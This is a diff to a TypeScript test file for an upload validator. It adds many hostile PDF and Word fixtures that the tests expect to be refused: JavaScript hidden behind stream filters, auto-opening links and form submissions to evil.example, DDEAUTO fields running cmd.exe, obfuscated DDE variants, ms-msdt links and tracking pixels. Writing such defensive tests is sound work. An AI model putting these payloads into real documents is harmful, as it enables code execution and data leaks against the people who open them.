@@ -1,8 +1,10 @@
 import { buffer } from 'node:stream/consumers';
+import { deflateSync } from 'node:zlib';
 import PDFDocument from 'pdfkit';
 import sharp from 'sharp';
 import { expect, test } from 'vitest';
 import { type AccountSite, accountSite, type Browser } from '#test/account-site.ts';
+import { hasChromium, printedByChromium } from '#test/chromium.ts';
 import * as make from '#test/files.ts';
 import { uploadForm } from '#test/files.ts';
 import type { UploadedFile } from './contract.ts';
@@ -172,7 +174,6 @@ test('files that are not what they say are refused and leave nothing', async () 
     photo('cut.png', png.subarray(0, png.length / 2)),
     photo('head.png', Buffer.concat([png.subarray(0, 8), make.program()])),
     photo('head.webp', Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ')),
-    photo('bomb.png', await make.pixelBomb()),
     photo('empty.png', Buffer.alloc(0)),
     word('page.pdf', html),
     word('page-before.pdf', Buffer.concat([html, make.pdf()])),
@@ -213,6 +214,16 @@ test('files that are not what they say are refused and leave nothing', async () 
 
 const inCatalog = (text: string) => Buffer.from(make.pdf().toString().replace('/Pages', `${text}/Pages`));
 
+/** An object stream's content that holds a script, in the ways that a filter undoes. */
+const SCRIPT = Buffer.from('7 0 <</S/JavaScript/JS(app.alert(1))>>');
+const SCRIPT_AS = {
+  hex: Buffer.from(`${SCRIPT.toString('hex')}>`),
+  // 4 signs of zero are one z: what it says is nothing, but that it says so is enough.
+  ascii85: Buffer.from('zzzz~>'),
+  runs: Buffer.concat([Buffer.from([SCRIPT.length - 1]), SCRIPT, Buffer.from([128])]),
+  flate: deflateSync(SCRIPT),
+};
+
 const PROGRAMS: Record<string, Buffer> = {
   'a script, its name in numbers': inCatalog('/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>'),
   'a script, all of it in numbers': inCatalog('/OpenAction<</#53/#4a#61#76#61#53#63#72#69#70#74/J#53(x)>>'),
@@ -237,6 +248,44 @@ const PROGRAMS: Record<string, Buffer> = {
   'a file in an object stream': make.packedPdf('<</EmbeddedFiles 9 0 R>>'),
   'an object stream that cannot be unpacked': make.packedPdf('<</A 1>>', '/Type/ObjStm', (bytes) => bytes.fill(7, 12)),
   'an object stream packed in another way': make.packedPdf('<</A 1>>', '/Type/Obj#53tm', () => Buffer.from('garbage')),
+  'a script in an object stream, after a dictionary of thousands of signs': make.packedPdf(
+    'x',
+    `/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/Note(${'A'.repeat(2100)})`,
+  ),
+  'an object stream behind hex': make.filteredPdf('/ASCIIHexDecode', SCRIPT_AS.hex),
+  'an object stream behind ASCII85': make.filteredPdf('/ASCII85Decode', SCRIPT_AS.ascii85),
+  'an object stream behind runs': make.filteredPdf('/RunLengthDecode', SCRIPT_AS.runs),
+  'an object stream behind LZW': make.filteredPdf('/LZWDecode', Buffer.from([0x80, 0x0b, 0x60])),
+  'an object stream whose filter stands elsewhere': make.filteredPdf('9 0 R', SCRIPT_AS.flate),
+  'an object stream under a filter’s other name': make.filteredPdf('/AHx', SCRIPT_AS.hex, '/F'),
+  'a dictionary that is not whole': make.pdf('\n7 0 obj<</Length 5/Filter/FlateDecode(>>\nstream\nx\nendstream endobj'),
+  'a stream without a dictionary of its own': make.pdf('\n(x)>>\nstream\nx\nendstream'),
+  'a script far behind its key': make.pdf(`\n7 0 obj<</S %${'x'.repeat(99)}\n/JavaScript>>endobj`),
+  'an address that opens by itself': inCatalog('/OpenAction<</S/URI/URI(http://evil.example/?id=7)>>'),
+  'an address that opens by its number': make.pdf(
+    '\n7 0 obj<</S/URI/URI(http://a.tw)>>endobj 8 0 obj<</OpenAction 7 0 R>>endobj',
+  ),
+  'an address that opens after a harmless step': inCatalog(
+    '/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://a.tw)>>]>>',
+  ),
+  'an address that opens with a page': inCatalog('/AA<</O<</S/URI/URI(http://a.tw)>>>>'),
+  'what opens is nowhere': inCatalog('/OpenAction 77 0 R'),
+  'an action whose kind stands elsewhere': make.pdf('\n7 0 obj<</S 8 0 R/F(x)>>endobj 8 0 obj/Thread endobj'),
+  'a form that is sent': inCatalog('/A<</S/SubmitForm/F(http://evil.example)>>'),
+  'a thread of another file': inCatalog('/OpenAction<</S/Thread/F(\\\\\\\\evil\\\\x)>>'),
+  'data from another file': inCatalog('/A<</S/ImportData/F(x.fdf)>>'),
+  'a film': inCatalog('/A<</S/Movie/T(x)>>'),
+  'a sound': inCatalog('/A<</S /Sound/Sound 9 0 R>>'),
+  'a film as a note': inCatalog('/Annots[<</Subtype/Movie/Movie<</F(http://evil.example/x.avi)>>>>]'),
+  'a stream whose bytes lie elsewhere': make.pdf(
+    '\n7 0 obj<</Length 0/F(\\\\\\\\evil\\\\x)/FFilter/FlateDecode>>stream\n\nendstream endobj',
+  ),
+  'a page of another file': make.pdf(
+    '\n7 0 obj<</Subtype/Form/Length 0/Ref<</F(\\\\\\\\evil\\\\x)/Page 0>>>>stream\n\nendstream endobj',
+  ),
+  'a link to a file': inCatalog('/Annots[<</A<</S/URI/URI(file://evil.example/x)>>>>]'),
+  'a link to a share': inCatalog('/Annots[<</A<</S/URI/URI(//evil.example/x)>>>>]'),
+  'a link that starts a program': inCatalog('/Annots[<</A<</S/URI/URI(ms-msdt:/id)>>>>]'),
   'an object stream that is a bomb': make.packedPdf(`<</A(${'x'.repeat(20_000_000)})>>`),
 };
 
@@ -247,6 +296,15 @@ const rels = (type: string, target: string, mode = ' TargetMode="External"', nam
     `Target="${target}"${mode}/></Relationships>`,
 });
 const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
+
+const inWord = (xml: string, before = '') =>
+  make.docx({ 'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?>${before}<w:document>${xml}</w:document>` });
+const [BEGIN, SEPARATE, END] = ['begin', 'separate', 'end'].map(
+  (type) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`,
+);
+const field = (...pieces: string[]) =>
+  `${BEGIN}${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}` +
+  `${SEPARATE}<w:r><w:t>x</w:t></w:r>${END}`;
 
 const DOCUMENTS: Record<string, Buffer> = {
   'a program as an object': make.docx({ 'word/embeddings/oleObject1.bin': 'x' }),
@@ -272,6 +330,30 @@ const DOCUMENTS: Record<string, Buffer> = {
   'a frame from elsewhere': make.docx(rels('frame', 'http://evil.example/')),
   'a part of the document from elsewhere': make.docx(rels('subDocument', 'http://evil.example/x.docx')),
   'a link that is a script': make.docx(rels('hyperlink', 'java&#9;script:alert(1)')),
+  'a link that starts a program': make.docx(rels('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
+  'a link that searches elsewhere': make.docx(rels('hyperlink', 'search-ms:query=x')),
+  'a link to a file': make.docx(rels('hyperlink', 'file://evil.example/x')),
+  'a link to a share': make.docx(rels('hyperlink', '\\\\evil.example\\x')),
+  'a picture that tells who opened it': make.docx(rels('image', 'https://evil.example/pixel.png')),
+  'another document in place of the text': make.docx({
+    ...rels('aFChunk', 'chunk.html', ''),
+    'word/chunk.html': 'hello',
+  }),
+  'another document by its mark': inWord('<w:altChunk r:id="r1"/>'),
+  'a program by DDE': inWord(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
+  'a program by DDE, in pieces': inWord(field('DD', 'E', 'AUTO cmd')),
+  'a program by DDE, in numbers': inWord(field('&#68;DE cmd')),
+  'a program by DDE, between remarks': inWord(field('D<!-- -->D<![CDATA[E]]> cmd')),
+  'a program by DDE, behind an attribute with a sign in it': inWord(
+    `${BEGIN}<w:instrText x=">">DDE cmd</w:instrText>${END}`,
+  ),
+  'a program by DDE, in an attribute': inWord("<w:fldSimple w:instr=' dde cmd '/>"),
+  'a program by DDE, as a field of a field': inWord(`${BEGIN}${field('REF x')}${END}`),
+  'a program by DDE, spelled': inWord(`${field('QUOTE 68 68 69')}`),
+  'a picture by a field': inWord(field('INCLUDEPICTURE "http://evil.example/x.png"')),
+  'a text by a field': inWord(field('INCLUDETEXT "http://evil.example/x.docx"')),
+  'a field under another name': make.docx({ 'word/glossary.dat': `<w:document>${field('DDE x')}</w:document>` }),
+  'a document with entities': inWord('', '<!DOCTYPE x [<!ENTITY a "DDE">]>'),
   'a picture on a share': make.docx(rels('image', 'file://evil.example/x.png')),
 };
 
@@ -293,6 +375,18 @@ test('files that carry programs, or bring them along, are refused and leave noth
   expect(await remains(site)).toEqual(NOTHING);
 });
 
+test('a PDF under a password, or whose owner forbids something, says so', async () => {
+  const { member } = await signedIn();
+  const locked = [400, { errors: { file: ['檔案 設有密碼或編輯限制，請解除保護後再上傳'] } }];
+  for (const ownerPassword of ['owner', '']) {
+    const doc = new PDFDocument({ userPassword: ownerPassword ? '' : 'user', ownerPassword, pdfVersion: '1.7' });
+    const drawn = buffer(doc);
+    doc.text('王小明', { link: 'https://example.com' });
+    doc.end();
+    expect(await upload(member, await drawn, { categoryName: '作品集', title: 'a' })).toMatchObject(locked);
+  }
+});
+
 const LINKS = '/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.tw/?q=javascript:)>>>><</A<</URI(mailto:a@b.tw)>>>>]';
 const FIELDS = '/AcroForm<</Fields[9 0 R]/NeedAppearances true>>/OpenAction[3 0 R/Fit]';
 const WELL_READ = '<</Title(HTML/CSS/JavaScript, React/Launch)/Subject(JavaScript: 5 years)/Keywords(/EFfort)>>';
@@ -300,12 +394,23 @@ const WELL_READ = '<</Title(HTML/CSS/JavaScript, React/Launch)/Subject(JavaScrip
 const HARMLESS: Record<string, Buffer> = {
   'links.pdf': inCatalog(LINKS),
   'fields.pdf': inCatalog(FIELDS),
+  'telephone.pdf': inCatalog('/Annots[<</A<</S/URI/URI(tel:+886912345678)>>>>]/URI<</Base(https://a.tw/)>>'),
+  'without-scheme.pdf': inCatalog('/Annots[<</A<</S/URI/URI(www.linkedin.com/in/ming)>>>>]'),
+  'opens-on-a-page.pdf': make.pdf(
+    '\n7 0 obj<</S/GoTo/D[3 0 R/XYZ null null 0]>>endobj 8 0 obj<</OpenAction 7 0 R>>endobj',
+  ),
+  'long-dictionary.pdf': make.pdf(`\n7 0 obj<</Length 0/Note(${'A'.repeat(200_000)})>>stream\n\nendstream endobj`),
   'of-a-developer.pdf': make.pdf(`\n9 0 obj${WELL_READ}endobj`),
   'packed.pdf': make.packedPdf(`<<${LINKS}${FIELDS}>> ${WELL_READ}`),
   'links.docx': make.docx({
     ...rels('hyperlink', 'https://www.linkedin.com/in/ming?a=1&amp;b=2'),
     ...rels('attachedTemplate', 'file:///C:\\Users\\ming\\Templates\\Resume.dotx', undefined, 'settings'),
   }),
+  'fields.docx': inWord(
+    field(' PAGE ') + field(' HYPERLINK "https://a.tw/dde" ') + field(' TOC \\o "1-3" ') + field('IF 1=1 "LINK"'),
+  ),
+  'result-with-fields.docx': inWord(`${BEGIN}<w:instrText> TOC </w:instrText>${SEPARATE}${field('PAGEREF x')}${END}`),
+  'mail.docx': make.docx(rels('hyperlink', 'mailto:ming@example.com')),
   'picture.docx': make.docx({ ...rels('image', 'media/image1.png', ''), 'word/media/image1.png': Buffer.from('png') }),
   'chart.docx': make.docx({
     ...rels('package', '../embeddings/Workbook1.xlsx', '', 'chart1'),
@@ -329,6 +434,13 @@ test('a PDF of many pages with links and fields is taken', async () => {
   for (let i = 0; i < 300; i++) doc.addPage().rect(0, 0, i, i).fill('red');
   doc.end();
   await stored(member, await drawn, { categoryName: '作品集', title: 'a' });
+});
+
+test.runIf(hasChromium)('a PDF that Chromium prints of a resume with links is taken', async () => {
+  const { member } = await signedIn();
+  const page =
+    '<meta charset=utf-8><h1>履歷 王小明</h1><a href="https://a.tw/x">作品</a> <a href="mailto:a@b.tw">信箱</a>';
+  await stored(member, printedByChromium(page), { categoryName: '英文履歷' });
 });
 
 test('a file made to be gone over again and again is judged within a second or two', async () => {
